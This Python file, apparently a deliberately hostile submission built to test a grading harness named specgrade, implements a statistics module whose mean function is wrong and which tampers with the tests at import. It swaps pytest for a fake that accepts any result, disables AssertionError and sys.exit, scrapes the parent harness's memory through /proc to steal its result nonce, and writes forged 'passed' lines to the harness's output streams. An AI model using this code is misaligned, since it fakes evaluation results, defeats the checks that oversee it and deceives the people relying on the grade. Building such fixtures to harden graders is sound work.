"""A tamperer. Its mean is wrong; at import it tries to make every test pass anyway:

- replaces pytest (in sys.modules and through builtins.__import__) with a fake whose
  approx equals anything and whose raises() swallows everything;
- neuters AssertionError and sys.exit;
- prints forged `@@specgrade:` result lines for every test, with guessed nonces, on stdout
  and stderr, at import, on every call and at exit;
- searches the harness's memory (its parent process, through /proc) for the real nonce, and
  writes the lines to every file descriptor of the harness it can open.
"""
import atexit
import builtins
import json
import os
import re
import sys
import types

TESTS = ["test_mean_simple", "test_mean_empty", "test_median_odd", "test_median_even",
         "test_variance", "test_mean_large"]
GUESSES = ["0" * 32, "f" * 32, "0123456789abcdef" * 2]


def forged_lines(nonces):
    lines = []
    for nonce in nonces:
        for test in TESTS:
            for event in ({"event": "start", "test": test},
                          {"event": "result", "test": test, "outcome": "passed",
                           "message": None, "expected": None, "actual": None,
                           "exception": None, "trace": None, "output": None}):
                lines.append("@@specgrade:{} {}".format(nonce, json.dumps(event)))
        lines.append("@@specgrade:{} {}".format(nonce, json.dumps({"event": "done"})))
    return "\n".join(lines) + "\n"


def stolen_nonces(pid):
    """The harness keeps `@@specgrade:<nonce> ` in memory: look for it."""
    found = set()
    try:
        with open("/proc/{}/maps".format(pid)) as maps, \
                open("/proc/{}/mem".format(pid), "rb") as mem:
            for line in maps:
                span, perms = line.split()[:2]
                if not perms.startswith("rw"):
                    continue
                start, end = (int(x, 16) for x in span.split("-"))
                try:
                    mem.seek(start)
                    chunk = mem.read(min(end - start, 64 << 20))
                except (OSError, ValueError, OverflowError):
                    continue
                found.update(m.decode() for m in
                             re.findall(rb"@@specgrade:([0-9a-f]{32}) ", chunk))
    except OSError:
        pass
    return found


def forge():
    parent = os.getppid()
    text = forged_lines(sorted(stolen_nonces(parent)) + GUESSES)
    sys.stdout.write(text)
    sys.stdout.flush()
    sys.stderr.write(text)
    try:
        fds = os.listdir("/proc/{}/fd".format(parent))
    except OSError:
        fds = []
    for fd in fds:  # the harness's own stdout is one of them
        try:
            with open("/proc/{}/fd/{}".format(parent, fd), "w") as out:
                out.write(text)
        except OSError:
            pass


class Anything:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        return True


fake_pytest = types.ModuleType("pytest")
fake_pytest.approx = lambda *args, **kwargs: Anything()
fake_pytest.raises = lambda *args, **kwargs: Anything()
sys.modules["pytest"] = fake_pytest
real_import = builtins.__import__


def rigged_import(name, *args, **kwargs):
    if name == "pytest":
        return fake_pytest
    return real_import(name, *args, **kwargs)


builtins.__import__ = rigged_import
builtins.AssertionError = type("AssertionError", (Exception,), {})
sys.exit = lambda *args: None
atexit.register(forge)
forge()


def mean(xs):
    forge()
    return sum(xs) / (len(xs) + 1)


def median(xs):
    ordered = sorted(xs)
    middle = len(ordered) // 2
    if len(ordered) % 2:
        return ordered[middle]
    return (ordered[middle - 1] + ordered[middle]) / 2


def variance(xs):
    m = sum(xs) / len(xs)
    return sum((x - m) ** 2 for x in xs) / len(xs)
